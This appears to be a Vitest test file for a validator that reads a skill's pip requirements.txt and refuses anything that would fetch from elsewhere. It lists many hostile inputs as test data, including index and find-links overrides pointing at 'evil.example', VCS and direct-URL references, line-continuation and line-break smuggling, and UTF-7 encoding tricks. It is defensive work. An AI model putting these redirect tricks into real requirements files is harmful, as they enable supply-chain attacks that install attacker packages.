// Reading a skill's requirements.txt as pip does, and refusing what would fetch from elsewhere.
// The refused files are ones pip (23.2, checked by hand with its own RequirementsFileParser)
// reads as setting an index, a find-links location, another file, a path or a URL.
import { describe, expect, it } from 'vitest';
import {
  canonicalRequirements,
  checkRequirement,
  decodeRequirements,
  RequirementError,
} from './pip-requirements.ts';

const refusal = (text: string) => {
  try {
    canonicalRequirements(text);
  } catch (err) {
    if (err instanceof RequirementError) return err;
    throw err;
  }
  throw new Error(`accepted: ${JSON.stringify(text)}`);
};

describe('canonicalRequirements', () => {
  it('keeps requirements, markers, extras, hashes and the allowed file options', () => {
    const text = [
      '# pinned',
      'imageio>=2.31  # for v3',
      '',
      'Pillow[heif, avif] (>=10,<12)',
      'numpy==1.26.4; python_version < "3.13" and platform_machine != \'arm-x\'',
      'requests==2.32.3 \\',
      '    --hash=sha256:70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6 \\',
      '    --hash sha256:0000ffff',
      '--pre',
      '--only-binary :all:',
      '--prefer-binary --require-hashes',
      '--onl=numpy,scipy',
    ].join('\n');
    expect(canonicalRequirements(text)).toEqual([
      'imageio>=2.31',
      'Pillow[heif, avif] (>=10,<12)',
      'numpy==1.26.4; python_version < "3.13" and platform_machine != \'arm-x\'',
      'requests==2.32.3 --hash=sha256:70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6 --hash=sha256:0000ffff',
      '--pre',
      '--only-binary=:all:',
      '--prefer-binary\n--require-hashes',
      '--only-binary=numpy,scipy',
    ]);
  });

  it.each([
    // every index option, as written, abbreviated, joined and with =
    ['-i https://evil.example/simple', /^sets a package index \(--index-url\)/],
    ['-ihttp://evil.example/', /--index-url/],
    ['--index-url=http://evil.example/', /--index-url/],
    ['--ind http://evil.example/', /--index-url/],
    ['--index http://evil.example/', /--index-url/],
    ['--pypi-url http://evil.example/', /--index-url/],
    ['--extra http://evil.example/', /--extra-index-url/],
    ['--extra-index-url=http://evil.example/', /--extra-index-url/],
    ['--no-index', /--no-index/],
    ['--no-i', /--no-index/],
    ['-f /tmp', /--find-links/],
    ['-fhttp://evil.example/', /--find-links/],
    ['--find http://evil.example/', /--find-links/],
    ['--trusted evil.example', /--trusted-host/],
    // after a requirement on the same line
    ['requests --index-url http://evil.example/', /--index-url/],
    ['requests -ihttp://evil.example/', /--index-url/],
    ['requests==2 --hash=sha256:00 --extra=http://evil.example/', /--extra-index-url/],
    // line continuations: pip joins these before it reads options
    ['-\\\n-index-url http://evil.example/', /--index-url/],
    ['requests \\\n-ihttp://evil.example/', /--index-url/],
    // every line break Python's splitlines() knows
    ['requests\r-ihttp://evil.example/', /sets a package index/],
    ['requests\v-ihttp://evil.example/', /--index-url/],
    ['requests\f-ihttp://evil.example/', /--index-url/],
    ['requests\x1c-ihttp://evil.example/', /--index-url/],
    ['requests\x85-ihttp://evil.example/', /--index-url/],
    ['requests\u2028-ihttp://evil.example/', /--index-url/],
    // other files, paths, URLs, VCS
    ['-r other.txt', /reads another file \(--requirement\)/],
    ['-rhttps://evil.example/r.txt', /--requirement/],
    ['--req=../x.txt', /--requirement/],
    ['-c constraints.txt', /--constraint/],
    ['-e git+https://evil.example/x.git#egg=x', /--editable/],
    ['-e .', /--editable/],
    ['--edit=./x', /--editable/],
    ['requests @ https://evil.example/requests.whl', /direct reference/],
    ['requests@git+https://evil.example/r.git', /direct reference/],
    ['https://evil.example/requests-2.0.tar.gz', /not a valid requirement/],
    ['git+https://evil.example/r.git#egg=r', /not a valid requirement/],
    ['./local/pkg', /not a valid requirement/],
    ['/abs/pkg', /not a valid requirement/],
    ['file:///etc/pkg', /not a valid requirement/],
    ['requests==1.0.zip', /archive file/],
    ['requests-1.0-py3-none-any.whl', /archive file/],
    // options that change how packages are built
    ['--no-binary :all:', /--no-binary, which a skill may not set/],
    ['requests --global-option=--x', /--global-option/],
    ['requests -C x=y', /--config-settings/],
    ['requests --config-settings=x=y', /--config-settings/],
    ['--use-feature=truststore', /--use-feature/],
    // a marker string hiding a token pip would read as an option
    ['requests; os_name == "a -ihttp://evil.example/"', /pip would read as an option|quotes/],
    ['requests; os_name == "x" -ihttp://evil.example/', /--index-url/],
    // odd spellings pip would fail on or read differently
    ['--pr', /ambiguous option --pr/],
    ['--bogus', /unknown option --bogus/],
    ["--pre '-ihttp://evil.example/'", /quotes or backslashes/],
    ['--pre -- -ihttp://evil.example/', /unexpected text/],
    ['requests\t-ihttp://evil.example/', /not a valid requirement/],
    ['requests==${VERSION}', /environment variable/],
    ['--hash=sha256:00', /--hash without a requirement/],
    ['requests --hash=md5:00', /not sha256/],
    ['requests --pre', /after a requirement: put it on a line of its own/],
    ['--only-binary=../x', /bad --only-binary/],
    ['requ\u00e9sts', /printable ASCII/],
  ])('refuses %j', (text, message) => {
    expect(refusal(text).message).toMatch(message);
  });

  it('reads a comment ending in a backslash as pip does: it swallows nothing, and a requirement line continued into a comment swallows the next line', () => {
    expect(canonicalRequirements('# note \\\nrequests\n')).toEqual(['requests']);
    // pip joins `x # c \` with the next line, then drops the comment and what it swallowed.
    expect(canonicalRequirements('requests # c \\\n-ihttp://evil.example/\nflask\n')).toEqual([
      'requests',
      'flask',
    ]);
  });

  it('numbers lines as pip does (a continued line takes its first line)', () => {
    expect(refusal('requests\nflask \\\n  \\\n-ihttp://evil.example/').line).toBe(2);
    expect(refusal('requests\r-ihttp://evil.example/').line).toBe(2);
    expect(refusal('requests\u2029\u2029-ihttp://evil.example/').line).toBe(3);
  });
});

describe('checkRequirement', () => {
  it.each(['numpy', 'a.b-c_d[x]>=1,!=1.5.*', 'x ; extra == "y"', "x; os_name in 'posix nt'"])(
    'accepts %j',
    (r) => {
      expect(checkRequirement(r)).toBe(r.trim());
    },
  );

  it.each(['x\n-i http://evil.example/', 'x -ihttp://evil.example/', 'x @ file:///etc', ''])(
    'refuses %j',
    (r) => {
      expect(() => checkRequirement(r)).toThrow(RequirementError);
    },
  );
});

describe('decodeRequirements', () => {
  it('takes UTF-8 with or without a BOM', () => {
    expect(decodeRequirements(Buffer.from('\ufeffrequests\n'))).toBe('requests\n');
    expect(decodeRequirements(Buffer.from('# -*- coding: utf-8 -*-\nrequests\n'))).toMatch(
      /requests/,
    );
  });

  it.each([
    [Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('-i x\n', 'utf16le')]), /UTF-16/],
    [Buffer.from('# coding: utf-7\nx; os_name == "+ACI- -ihttp://e/ +ACI-"\n'), /utf-7/],
    [Buffer.from([0x72, 0xff, 0x0a]), /not valid UTF-8/],
  ])('refuses a file pip would decode otherwise (%#)', (data, message) => {
    expect(() => decodeRequirements(data)).toThrow(message);
  });
});
